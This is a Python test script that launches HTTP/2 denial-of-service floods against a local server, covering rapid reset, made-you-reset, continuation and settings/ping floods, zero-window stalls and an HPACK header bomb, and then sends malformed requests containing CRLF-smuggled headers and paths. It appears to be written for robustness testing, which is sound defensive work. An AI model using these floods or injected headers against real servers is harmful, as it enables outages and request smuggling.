#!/usr/bin/env python3
"""What rude clients do to an HTTP/2 server, each for a second at most: http2.py PORT

Every attack ends in one of two ways: the server has ended the connection, or the attacker has given up. Which one is
printed; who watches the server says whether it minded.
"""

import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

SECONDS = 1.0
FIELDS = [(":method", "GET"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/")]

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Rude:
    """A connection on which any bytes may be sent."""

    def __init__(self, port, window=65535):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        tcp = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.tls = context.wrap_socket(tcp, server_hostname="shop.test")
        # What is checked by default is what is tried here.
        config = h2.config.H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
        )
        self.h2 = h2.connection.H2Connection(config=config)
        self.h2.initiate_connection()
        self.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.send()
        self.next_stream = 1

    def send(self, raw=b""):
        self.tls.sendall(self.h2.data_to_send() + raw)

    def stream(self):
        self.next_stream += 2
        return self.next_stream - 2

    def head(self, fields=None):
        return self.h2.encoder.encode(fields or FIELDS)

    def flood(self, make):
        """Sends what `make` makes until the server ends the connection or the time is up."""
        end = time.monotonic() + SECONDS
        sent = 0
        self.tls.settimeout(0.5)
        try:
            while time.monotonic() < end:
                self.tls.sendall(make())
                sent += 1
                self.listen(0)
        except (BlockingIOError, TimeoutError):
            return sent, "the server stopped reading"
        except (OSError, ssl.SSLError, EOFError) as error:
            return sent, f"ended by the server ({type(error).__name__})"
        return sent, "the attacker gave up"

    def listen(self, seconds):
        """Reads for so long; raises EOFError when the server has ended the connection."""
        self.tls.settimeout(seconds)
        try:
            if not self.tls.recv(1 << 16):
                raise EOFError
        except (ssl.SSLWantReadError, BlockingIOError, TimeoutError):
            pass
        finally:
            self.tls.settimeout(0.5)


def rapid_reset(port):
    """CVE-2023-44487: requests that are cancelled at once."""
    rude = Rude(port)

    def make():
        bytes_ = b""
        for _ in range(50):
            stream = rude.stream()
            bytes_ += frame(HEADERS, END_STREAM | END_HEADERS, stream, rude.head())
            bytes_ += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        return bytes_

    return rude.flood(make)


def made_you_reset(port):
    """CVE-2025-8671: requests that the server has to cancel (a window of nothing)."""
    rude = Rude(port)

    def make():
        bytes_ = b""
        for _ in range(50):
            stream = rude.stream()
            bytes_ += frame(HEADERS, END_STREAM | END_HEADERS, stream, rude.head())
            bytes_ += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
        return bytes_

    return rude.flood(make)


def continuation_flood(port):
    """CVE-2024-27316: a head that does not end."""
    rude = Rude(port)
    stream = rude.stream()
    rude.send(frame(HEADERS, END_STREAM, stream, rude.head()))
    # A literal field, never indexed, a kilobyte each.
    field = b"\x10\x01x\x7f\x81\x07" + b"a" * 1024
    return rude.flood(lambda: frame(CONTINUATION, 0, stream, field) * 20)


def empty_continuations(port):
    """A head that does not end, of nothing."""
    rude = Rude(port)
    stream = rude.stream()
    rude.send(frame(HEADERS, END_STREAM, stream, rude.head()))
    return rude.flood(lambda: frame(CONTINUATION, 0, stream) * 200)


def header_bomb(port):
    """A field of the compression table that is named thousands of times."""
    rude = Rude(port)
    rude.send(frame(HEADERS, END_STREAM | END_HEADERS, rude.stream(), rude.head(FIELDS + [("x-bomb", "b" * 3800)])))
    # 62 is the field that was put into the table last.
    bomb = rude.head() + bytes([0x80 | 62]) * 12000
    return rude.flood(lambda: frame(HEADERS, END_STREAM | END_HEADERS, rude.stream(), bomb))


def settings_flood(port):
    """CVE-2019-9515."""
    rude = Rude(port)
    return rude.flood(lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 200)


def ping_flood(port):
    """CVE-2019-9512."""
    rude = Rude(port)
    return rude.flood(lambda: frame(PING, 0, 0, b"12345678") * 200)


def unread_pings(port):
    """The same, whose answers nobody reads."""
    rude = Rude(port)
    rude.listen = lambda seconds: None
    return rude.flood(lambda: frame(PING, 0, 0, b"12345678") * 200)


def empty_data(port):
    """CVE-2019-9518: a body of empty frames."""
    rude = Rude(port)
    stream = rude.stream()
    fields = [(":method", "POST"), *FIELDS[1:]]
    rude.send(frame(HEADERS, END_HEADERS, stream, rude.head(fields)))
    return rude.flood(lambda: frame(DATA, 0, stream) * 200)


def zero_window(port):
    """CVE-2019-9511 and its like: answers that are asked for and not taken."""
    rudes = [Rude(port, window=0) for _ in range(5)]
    fields = [*FIELDS[:3], (":path", "/large")]
    for rude in rudes:
        for _ in range(100):
            rude.send(frame(HEADERS, END_STREAM | END_HEADERS, rude.stream(), rude.head(fields)))
    time.sleep(SECONDS)
    return 500, "the attacker gave up"


def malformed(port):
    """Requests that HTTP/1 would read otherwise: none may be answered with a page."""
    bad = [
        FIELDS + [("connection", "close")],
        FIELDS + [("transfer-encoding", "chunked")],
        FIELDS + [("upgrade", "websocket")],
        FIELDS + [("keep-alive", "1")],
        FIELDS + [("te", "gzip")],
        FIELDS + [("X-Upper", "1")],
        FIELDS + [("x", "a\r\nx-smuggled: 1")],
        FIELDS + [("x", "a\0")],
        FIELDS + [("x y", "1")],
        FIELDS + [("content-length", "5")],
        FIELDS + [("host", "other.test")],
        FIELDS + [(":path", "/second")],
        FIELDS[1:] + [FIELDS[0], FIELDS[0]],
        [*FIELDS[:3], (":path", "/ HTTP/1.1\r\nx: y")],
        [*FIELDS[:3], (":path", "no-slash")],
        [*FIELDS[:3], (":path", "")],
        [*FIELDS[:2], (":path", "/")],
        [*FIELDS[:2], (":authority", "user@shop.test"), (":path", "/")],
        [*FIELDS[:2], (":authority", "a b"), (":path", "/")],
        [("accept", "*/*"), *FIELDS],
        [*FIELDS, (":protocol", "websocket")],
    ]
    for fields in bad:
        rude = Rude(port)
        stream = rude.stream()
        rude.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, rude.head(fields)))
        status = answer(rude)
        if status is not None and status < 400:
            raise SystemExit(f"answered with {status}: {fields}")
    return len(bad), "all refused"


def answer(rude):
    """The status of the next answer; none when the stream or the connection was ended instead."""
    # The library has not seen the request that it is to read the answer of.
    import hpack

    decoder, buffer = hpack.Decoder(), b""
    rude.tls.settimeout(5)
    while True:
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            kind, payload, buffer = buffer[3], buffer[9 : 9 + length], buffer[9 + length :]
            if kind == HEADERS:
                return int(dict(decoder.decode(payload))[":status"])
            if kind in (RST_STREAM, 7):
                return None
        try:
            more = rude.tls.recv(1 << 16)
        except (OSError, ssl.SSLError):
            return None
        if not more:
            return None
        buffer += more


def main():
    port = int(sys.argv[1])
    attacks = [
        rapid_reset,
        made_you_reset,
        continuation_flood,
        empty_continuations,
        header_bomb,
        settings_flood,
        ping_flood,
        unread_pings,
        empty_data,
        zero_window,
        malformed,
    ]
    for attack in attacks:
        sent, outcome = attack(port)
        print(f"{attack.__name__}: {sent}, {outcome}", flush=True)


main()
